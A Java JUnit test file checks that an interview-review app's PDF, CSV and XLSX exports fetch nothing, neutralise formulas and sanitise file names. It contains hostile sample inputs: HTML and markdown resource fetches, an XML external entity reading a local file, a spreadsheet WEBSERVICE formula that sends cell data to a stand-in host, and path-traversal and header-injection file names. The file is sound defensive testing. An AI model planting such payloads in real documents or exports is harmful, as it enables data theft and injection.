package io.panelboard.review.export;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import de.siegmar.fastcsv.reader.CsvReader;
import io.panelboard.board.BoardCommand;
import io.panelboard.candidates.Applicants;
import io.panelboard.interviews.Interview;
import io.panelboard.interviews.Interviews;
import io.panelboard.interviews.KnownPeople;
import io.panelboard.interviews.Seat;
import io.panelboard.people.Role;
import io.panelboard.questions.Question;
import io.panelboard.questions.QuestionId;
import io.panelboard.questions.QuestionSets;
import io.panelboard.questions.RatingScale;
import io.panelboard.questions.Revision;
import io.panelboard.questions.Section;
import io.panelboard.review.internal.ReviewContext;
import io.panelboard.review.internal.TestPanel;
import io.panelboard.shared.mongo.Databases;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.text.PDFTextStripper;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.context.annotation.AnnotationConfigApplicationContext;

/** Writes records of an interview whose texts contain code for various programs. */
class HostileRecordTest {

    private static final String FORMULA = "=WEBSERVICE(\"http://demo.test/\"&A1)";

    @TempDir
    private Path folder;

    private final AtomicInteger asked = new AtomicInteger();
    private final AnnotationConfigApplicationContext context = ReviewContext.on(Databases.EMBEDDED);
    private final TestPanel panel = new TestPanel(context);
    private HttpServer network;
    private String hostile;
    private Interview interview;

    @BeforeEach
    void play() throws IOException {
        network = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        network.createContext("/", exchange -> {
            asked.incrementAndGet();
            exchange.sendResponseHeaders(404, -1);
        });
        network.start();
        String here = "http://127.0.0.1:" + network.getAddress().getPort();
        Path file = Files.writeString(folder.resolve("secret.txt"), "zanzibarfile");
        hostile = """
                ![a](%1$s/a.png) ![b](%2$s) ![c](/application.yaml) [d](%1$s/d) <img src="%1$s/e.png">
                <link rel="stylesheet" href="%1$s/f.css"> <style>@import url(%1$s/g.css);</style>
                <object data="%2$s"></object> <iframe src="%1$s/h"></iframe> <script src="%1$s/i.js"></script>
                <svg><image href="%1$s/j.png"/></svg> <p style="background: url(%1$s/k.png)">x</p>
                <!DOCTYPE x [<!ENTITY e SYSTEM "%2$s">]> &e; ![l](data:image/svg+xml,%%3Csvg/%%3E)
                """.formatted(here, file.toUri());
        interview = panel.plan(panel.candidate("Carla"), ReviewContext.NOW);
        interview = planWith(revision(hostile));
        panel.asks(interview);
        panel.does(interview, panel.lead, new BoardCommand.Note(TestPanel.ERRORS, hostile));
        panel.does(interview, panel.pat, new BoardCommand.Note(TestPanel.ERRORS, FORMULA));
        panel.reveals(interview);
    }

    @AfterEach
    void close() {
        network.stop(0);
        context.close();
    }

    private Revision revision(String prompt) {
        var admin = context.getBean(KnownPeople.class).add("Alma Admin", Role.ADMINISTRATOR);
        var sets = context.getBean(QuestionSets.class);
        var set = sets.create(
                admin,
                "Hostile",
                "Engineer",
                "Senior",
                RatingScale.FIVE,
                List.of(Section.of(
                        "All",
                        List.of(
                                question(TestPanel.ERRORS, prompt),
                                question(TestPanel.MACROS, prompt),
                                question(TestPanel.THREADS, prompt)))));
        return sets.publish(admin, set.id(), "");
    }

    private static Question question(QuestionId id, String prompt) {
        return new Question(id, FORMULA + id.value(), prompt, prompt, List.of(), "Soil", 5, 10, Map.of(1, prompt));
    }

    private Interview planWith(Revision revision) {
        // Their focus names competencies of the other set.
        var seats = interview.seats().stream()
                .map(seat -> new Seat(seat.person(), seat.kind(), Set.of()))
                .toList();
        return context.getBean(Interviews.class)
                .plan(
                        panel.manager,
                        new Interviews.Plan(
                                Applicants.in(context)
                                        .of(
                                                panel.manager,
                                                panel.candidate("Dora").id()),
                                null,
                                revision.id(),
                                ReviewContext.NOW
                                        .plusSeconds(86_400)
                                        .atZone(panel.manager.zone())
                                        .toLocalDateTime(),
                                panel.manager.zone(),
                                60,
                                seats));
    }

    private byte[] bytes(RecordFormat format) throws IOException {
        try (var content = context.getBean(Records.class)
                .of(interview.id(), panel.manager, format)
                .content()) {
            return content.readAllBytes();
        }
    }

    @Test
    void printingFetchesNothing() throws IOException {
        try (var pdf = Loader.loadPDF(bytes(RecordFormat.PDF))) {
            assertThat(new PDFTextStripper().getText(pdf))
                    .contains("<script", "<iframe")
                    .doesNotContain("zanzibarfile", "spring:");
            assertThat(pdf.getDocumentCatalog().getOpenAction()).isNull();
            assertThat(pdf.getDocumentCatalog().getNames()).isNull();
        }
        assertThat(asked).hasValue(0);
    }

    @Test
    void noCellIsAFormula() throws IOException {
        String csv = new String(bytes(RecordFormat.CSV), StandardCharsets.UTF_8);
        assertThat(CsvReader.builder().ofCsvRecord(csv.substring(1)).stream().flatMap(row -> row.getFields().stream()))
                .anyMatch(cell -> cell.equals("'" + FORMULA))
                .noneMatch(cell -> cell.matches("(?s)[=+\\-@\\t\\r].*"));
        try (var book = new ReadableWorkbook(new java.io.ByteArrayInputStream(bytes(RecordFormat.XLSX)))) {
            for (var sheet : book.getSheets().toList()) {
                assertThat(sheet.read().stream().flatMap(row -> row.stream()).filter(cell -> cell != null))
                        .allMatch(cell -> cell.getFormula() == null)
                        .noneMatch(cell -> cell.getText().startsWith("'"));
            }
        }
    }

    @Test
    void aFilesNameIsOfLettersAndDigitsWhateverTheCandidateIsCalled() {
        var day = LocalDate.of(2026, 10, 6);
        for (String name : List.of(
                "../../etc/passwd",
                "a\r\nSet-Cookie: b",
                "x\u202Efdp.exe",
                "\"; filename=evil.exe",
                "C:\\CON",
                "日本語 Ωμέγα",
                "x".repeat(5_000),
                "\u0000",
                "...")) {
            assertThat(RecordFile.name(name, day, RecordFormat.PDF))
                    .matches("interview-[\\p{L}\\p{M}\\p{N}-]+-2026-10-06\\.pdf")
                    .hasSizeLessThan(100);
        }
    }
}
